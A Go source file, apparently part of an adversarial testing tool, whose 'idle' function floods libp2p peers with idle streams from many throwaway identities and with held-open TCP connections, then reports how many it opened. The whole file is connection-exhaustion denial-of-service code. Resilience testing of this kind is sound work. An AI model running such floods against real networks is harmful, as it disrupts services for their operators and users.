package intruder

import (
	"context"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p/core/peer"
	manet "github.com/multiformats/go-multiaddr/net"
)

// idleHosts share the streams, as strangers with as many keys.
const idleHosts = 16

// idle opens streams and connections at every target on which it then says nothing, as long as it lives.
func (in *intruder) idle() error {
	var streams, connections atomic.Int64
	var all sync.WaitGroup
	for _, text := range in.Targets {
		to, err := peer.AddrInfoFromString(text)
		if err != nil {
			return err
		}
		for range idleHosts {
			s, err := NewStranger(nil)
			if err != nil {
				return err
			}
			for range floodAtOnce / idleHosts {
				all.Go(func() {
					for range idle / idleHosts / (floodAtOnce / idleHosts) {
						ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
						st, x := s.Raw(ctx, *to)
						cancel()
						if x.Err == nil {
							streams.Add(1)
							go hold(st)
						}
					}
				})
			}
		}
		addr, err := manet.ToNetAddr(to.Addrs[0])
		if err != nil {
			return err
		}
		all.Go(func() {
			for range 200 {
				c, err := net.DialTimeout("tcp", addr.String(), time.Second)
				if err != nil {
					return
				}
				connections.Add(1)
				go func() { _, _ = io.Copy(io.Discard, c) }()
			}
		})
	}
	all.Wait()
	in.say("flooded", map[string]any{"streams": streams.Load(), "connections": connections.Load()})
	return nil
}
